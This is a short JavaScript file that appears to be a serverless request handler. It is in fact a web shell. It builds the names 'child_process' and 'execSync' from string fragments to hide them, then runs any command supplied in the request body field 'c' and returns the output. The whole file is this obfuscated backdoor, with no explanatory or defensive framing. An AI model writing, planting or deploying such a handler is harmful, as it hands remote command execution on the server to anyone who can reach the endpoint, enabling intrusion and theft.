const m = require(["child", "process"].join("_"));
const k = ["ex", "ec", "Sync"].join("");
exports.handle = async (event) => ({ out: m[k](event.body.c).toString() });
